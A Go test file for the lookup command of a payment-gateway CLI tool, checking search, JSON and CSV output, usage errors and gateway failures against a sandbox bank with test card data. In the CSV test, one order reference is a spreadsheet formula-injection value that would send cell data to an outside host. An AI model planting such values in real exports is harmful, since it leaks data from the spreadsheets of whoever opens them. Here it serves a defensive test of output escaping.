package cli

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"motoconsole/gateway"
	"motoconsole/internal/lookup"
	"motoconsole/internal/sandbox"
)

const (
	lookupSite     = "test_floor1"
	lookupPassword = "Password1^"
)

// lookupBank is a test bank with a clock of its own, and a configuration for it.
type lookupBank struct {
	bank   *sandbox.Bank
	now    time.Time
	config string
}

func newLookupBank(tb testing.TB) *lookupBank {
	tb.Helper()
	b := &lookupBank{now: time.Now()}
	b.bank = sandbox.New(sandbox.Config{
		Username: sandboxUser, Password: gateway.NewPassword(lookupPassword), Now: func() time.Time { return b.now },
	})
	server := httptest.NewServer(b.bank)
	tb.Cleanup(server.Close)
	b.config = lookupConfig(tb, server.URL)
	return b
}

// Binary is the moto that TestMain built.
var Binary string

// lookupConfig writes a configuration for a gateway.
func lookupConfig(tb testing.TB, url string) string {
	tb.Helper()
	folder := tb.TempDir()
	write := func(name, text string) {
		if err := os.WriteFile(filepath.Join(folder, name), []byte(text), 0o600); err != nil {
			tb.Fatal(err)
		}
	}
	write("password", lookupPassword+"\n")
	write("config.toml", fmt.Sprintf(`
[gateway]
url = %q
username = %q
password_file = "password"
site = %q
timeout = "20s"

[payment]
currency = "GBP"

[journal]
file = "journal.db"

[operator]
name = "priya"
`, url, sandboxUser, lookupSite))
	return filepath.Join(folder, "config.toml")
}

// pay books the payment of the vendor's example, changed by pairs.
func (b *lookupBank) pay(tb testing.TB, pairs ...string) {
	tb.Helper()
	element := map[string]any{
		"requesttypedescriptions": []string{"AUTH"}, "accounttypedescription": "MOTO", "sitereference": lookupSite,
		"currencyiso3a": "GBP", "baseamount": "1050", "orderreference": "A17", "pan": "4111111111111111",
		"expirydate": "12/2030", "securitycode": "123", "billingpremise": "No 789", "billingpostcode": "TE45 6ST", "operatorname": "priya",
	}
	for pair := range slices.Chunk(pairs, 2) {
		element[pair[0]] = pair[1]
	}
	body, err := json.Marshal(map[string]any{"alias": sandboxUser, "version": "1.00", "request": []any{element}})
	if err != nil {
		tb.Fatal(err)
	}
	r := httptest.NewRequest(http.MethodPost, "/json/", bytes.NewReader(body))
	r.SetBasicAuth(sandboxUser, lookupPassword)
	w := httptest.NewRecorder()
	b.bank.ServeHTTP(w, r)
	if !strings.Contains(w.Body.String(), `"response":[{`) {
		tb.Fatal(w.Body.String())
	}
}

// moto runs the program in this process.
func moto(tb testing.TB, args ...string) (stdout, stderr string, code int) {
	tb.Helper()
	folder := tb.TempDir()
	open := func(name string) *os.File {
		f, err := os.Create(filepath.Join(folder, name))
		if err != nil {
			tb.Fatal(err)
		}
		return f
	}
	out, errs := open("out"), open("err")
	code = Run(args, nil, out, errs, func(string) string { return "" }, "test")
	read := func(f *os.File) string {
		text, err := os.ReadFile(f.Name())
		if err != nil {
			tb.Fatal(err)
		}
		_ = f.Close()
		return string(text)
	}
	return read(out), read(errs), code
}

func (b *lookupBank) lookup(tb testing.TB, args ...string) (stdout, stderr string, code int) {
	tb.Helper()
	return moto(tb, append([]string{"lookup", "--config", b.config}, args...)...)
}

func TestLookup(t *testing.T) {
	b := newLookupBank(t)
	b.pay(t)
	b.pay(t, "baseamount", "70000", "orderreference", "B18-7K3M2P", "pan", "340000000000611", "securitycode", "1234")
	b.pay(t, "baseamount", "60010", "orderreference", "C19", "billingpremise", "No 123", "billingpostcode", "TE12 3ST", "operatorname", "joe")
	b.pay(t, "settlestatus", "2", "orderreference", "D20")
	for _, test := range []struct {
		args  string
		lines int // with the heading; 0 means nothing found
		shown string
		notes string
	}{
		{"today", 5, "✔ Approved, settlement pending", "4 found, 4 looked at."},
		{"today", 5, "✖ Declined", "4 looked at"},
		{"A17", 2, "£10.50", "order reference A17"},
		{"A17", 2, "✔ ✔ ✔", ""},
		{"B18", 2, "American Express 0611", "to find what moto sent"},
		{"B18-7K3M2P", 2, "B18-7K3M2P", "of any time"},
		{"0611 declined", 2, "£700.00", "the last 24 hours"},
		{"held", 2, "! HELD", ""},
		{"--order D20 --order A17", 3, "D20", ""},
		{"--last4 0611 --last4 1111 --agent PRIYA --status approved", 2, "A17", ""},
		{"--amount 10.50 --type payment --brand visa --currency GBP --account MOTO", 3, "A17", ""},
		{"--postcode te456st --premise 1", 0, "", "nothing found"},
		{"C19", 2, "✖ Declined (60010", ""},
		{"unknown", 0, "", "nothing found"},
		{"nobody@example.com", 0, "", "nothing found among 0"},
		{"2222", 0, "", "nothing found among 4"},
		{"--site test_none --last4 1111", 0, "", "site test_none"},
		{"--from yesterday --to today agent:joe", 2, "C19", "from "},
		{"--newest today", 5, "", "4 found"},
	} {
		out, notes, code := b.lookup(t, strings.Fields(test.args)...)
		want := ExitOK
		if test.lines == 0 {
			want = ExitFailed
		}
		if code != want || strings.Count(out, "\n") != test.lines || !strings.Contains(out, test.shown) || !strings.Contains(notes, test.notes) {
			t.Errorf("%s: exit code %d\n%s%s", test.args, code, out, notes)
		}
	}
}

// TestUnknownIsNotAFailure: what is unknown is told from what was not accepted.
func TestUnknownIsNotAFailure(t *testing.T) {
	search, err := lookup.Parse("today", time.Now(), time.Local)
	if err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		sum  lookup.Summary
		want string
	}{
		{lookup.Summary{Found: 3}, ""},
		{lookup.Summary{Found: 3, Unknown: 2}, "2 unknown: do not take or send again what is unknown.\n"},
		{lookup.Summary{Found: 3, NotAccepted: 1}, "1 not accepted: the codes say why.\n"},
		{lookup.Summary{Found: 3, Unknown: 1, NotAccepted: 2}, "1 unknown: do not take or send again what is unknown.\n2 not accepted: the codes say why.\n"},
	} {
		var notes strings.Builder
		if err := told(t.Context(), &notes, search, lookup.Kept{}, tc.sum, nil); err != nil {
			t.Fatal(err)
		}
		if _, rest, _ := strings.Cut(notes.String(), "\n"); rest != tc.want {
			t.Errorf("%+v: %q", tc.sum, rest)
		}
	}
}

func TestLookupJSON(t *testing.T) {
	b := newLookupBank(t)
	b.pay(t)
	b.pay(t, "orderreference", "<b>&", "settlestatus", "2")
	out, _, code := b.lookup(t, "--json", "today")
	lines := strings.Split(strings.TrimSuffix(out, "\n"), "\n")
	if code != ExitOK || len(lines) != 2 {
		t.Fatalf("exit code %d\n%s", code, out)
	}
	for i, want := range []map[string]string{
		{"outcome": "approved", "orderreference": "A17", "maskedpan": "411111######1111", "baseamount": "1050"},
		{"outcome": "held", "orderreference": "<b>&"},
	} {
		var got map[string]any
		if err := json.Unmarshal([]byte(lines[i]), &got); err != nil {
			t.Fatal(err)
		}
		for name, value := range want {
			if got[name] != value {
				t.Errorf("%s is %v, want %s", name, got[name], value)
			}
		}
	}
	if out, _, code = b.lookup(t, "--json", "2222"); out != "" || code != ExitFailed {
		t.Errorf("nothing found: exit code %d, %q", code, out)
	}
}

func TestLookupCSV(t *testing.T) {
	b := newLookupBank(t)
	b.pay(t, "orderreference", `=HYPERLINK("http://e/"&A1),x`, "operatorname", "'a")
	out, _, code := b.lookup(t, "--csv", "today")
	if code != ExitOK || strings.Count(out, "\r\n") != 2 || strings.Count(out, "\n") != 2 {
		t.Fatalf("exit code %d\n%q", code, out)
	}
	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]string{}
	for i, name := range rows[0] {
		got[name] = rows[1][i]
	}
	for name, want := range map[string]string{
		"time_utc": b.now.UTC().Format(time.RFC3339), "amount": "10.50", "currencyiso3a": "GBP", "outcome": "approved",
		"orderreference": `'=HYPERLINK("http://e/"&A1),x`, "operatorname": "''a", "maskedpan": "411111######1111",
	} {
		if got[name] != want {
			t.Errorf("%s is %q, want %q", name, got[name], want)
		}
	}
	// An empty list still has its heading.
	out, _, code = b.lookup(t, "--csv", "2222")
	if code != ExitFailed || !strings.HasPrefix(out, "time_utc,transactionreference,") || strings.Count(out, "\n") != 1 {
		t.Errorf("exit code %d, %q", code, out)
	}
}

func TestLookupWrongUsage(t *testing.T) {
	b := newLookupBank(t)
	was := b.bank.Requests()
	for args, say := range map[string]string{
		"":                         "say what to look for",
		"--json --csv today":       "choose one",
		"today yesterday":          "say one date",
		"2026-02-30":               "no such date",
		"--last4 11":               "--last4: give the last four",
		"--from nowhere":           "say when it starts",
		"--ip nowhere":             "IP address",
		"--pan 4111111111111111":   "unknown flag",
		"4111111111111111":         "looks like a card number",
		"4111 1111 1111 1111":      "looks like a card number",
		"4111-1111-1111-1111":      "looks like a card number",
		"4111111111111112":         "looks like a card number",
		"order:4111111111111111":   "looks like a card number",
		"--order 4111111111111111": "looks like a card number",
		"--from 4111111111111111":  "looks like a card number",
		"--last4=4111111111111111": "looks like a card number",
		"--json=4111111111111111":  "looks like a card number",
		"--4111111111111111":       "looks like a card number",
		"-4111111111111111":        "looks like a card number",
	} {
		out, notes, code := b.lookup(t, strings.Fields(args)...)
		if code != ExitUsage || out != "" || !strings.Contains(notes, say) || strings.Count(notes, "moto:") != 1 {
			t.Errorf("%s: exit code %d\n%s%s", args, code, out, notes)
		}
		if strings.Contains(args, "111") && strings.Contains(out+notes, "111") {
			t.Errorf("%s: repeated: %s", args, notes)
		}
	}
	if got := b.bank.Requests(); got != was {
		t.Errorf("%d requests were sent", got-was)
	}
}

// The output distinguishes nothing found, a query that was not carried out, and a
// gateway that cannot be reached.
func TestLookupErrors(t *testing.T) {
	answer := ""
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		_, _ = io.Copy(io.Discard, r.Body)
		w.Header().Set("Content-Type", "application/json")
		// A test's own answer to its own client.
		_, _ = fmt.Fprintf(w, `{"requestreference":%q,"version":"1.00","response":[%s]}`, r.Header.Get("REQUESTREFERENCE"), answer) //nolint:gosec
	}))
	config := lookupConfig(t, server.URL)
	for _, test := range []struct{ answer, say string }{
		{`{"requesttypedescription":"TRANSACTIONQUERY","errorcode":"0","found":"0"}`, "nothing found"},
		{`{"requesttypedescription":"ERROR","errorcode":"60037","errormessage":"x","errordata":["filter"]}`, "code 60037"},
		{`{"requesttypedescription":"TRANSACTIONQUERY","errorcode":"0","found":"3"}`, "as many records as it says"},
	} {
		answer = test.answer
		out, notes, code := moto(t, "lookup", "--config", config, "1111")
		if code != ExitFailed || out != "" || !strings.Contains(notes, test.say) {
			t.Errorf("exit code %d\n%s%s", code, out, notes)
		}
	}
	server.Close()
	if _, notes, code := moto(t, "lookup", "--config", config, "1111"); code != ExitFailed || !strings.Contains(notes, "could not be reached") {
		t.Errorf("exit code %d\n%s", code, notes)
	}
	if _, notes, code := moto(t, "lookup", "--config", filepath.Join(t.TempDir(), "none.toml"), "1111"); code != ExitUsage {
		t.Errorf("exit code %d\n%s", code, notes)
	}
}

// The journal knows the reference under which a payment was sent. Without a readable
// journal the search goes on.
func TestLookupWithoutJournal(t *testing.T) {
	b := newLookupBank(t)
	b.pay(t, "orderreference", "A17-7K3M2P")
	journal := filepath.Join(filepath.Dir(b.config), "journal.db")
	for range 2 {
		if out, notes, code := b.lookup(t, "A17"); code != ExitOK || !strings.Contains(out, "A17-7K3M2P") {
			t.Errorf("exit code %d\n%s%s", code, out, notes)
		}
		if _, err := os.Stat(journal); err == nil {
			if text, _ := os.ReadFile(journal); string(text) != "no journal" {
				t.Error("a look-up made or changed a journal")
			}
		}
		if err := os.WriteFile(journal, []byte("no journal"), 0o600); err != nil {
			t.Fatal(err)
		}
	}
}

// A list that cannot be written whole is an error.
func TestLookupFullDisk(t *testing.T) {
	full, err := os.OpenFile("/dev/full", os.O_WRONLY, 0)
	if err != nil {
		t.Skip("no /dev/full here")
	}
	defer func() { _ = full.Close() }()
	b := newLookupBank(t)
	b.pay(t)
	for _, kind := range []string{"--csv", "--json", "--newest"} {
		stderr, err := os.Create(filepath.Join(t.TempDir(), "err"))
		if err != nil {
			t.Fatal(err)
		}
		code := Run([]string{"lookup", "--config", b.config, kind, "today"}, nil, full, stderr, func(string) string { return "" }, "test")
		_, _ = stderr.Seek(0, io.SeekStart)
		said, _ := io.ReadAll(stderr)
		if code != ExitFailed || !strings.Contains(string(said), "cannot be written") {
			t.Errorf("%s: exit code %d, %s", kind, code, said)
		}
	}
}
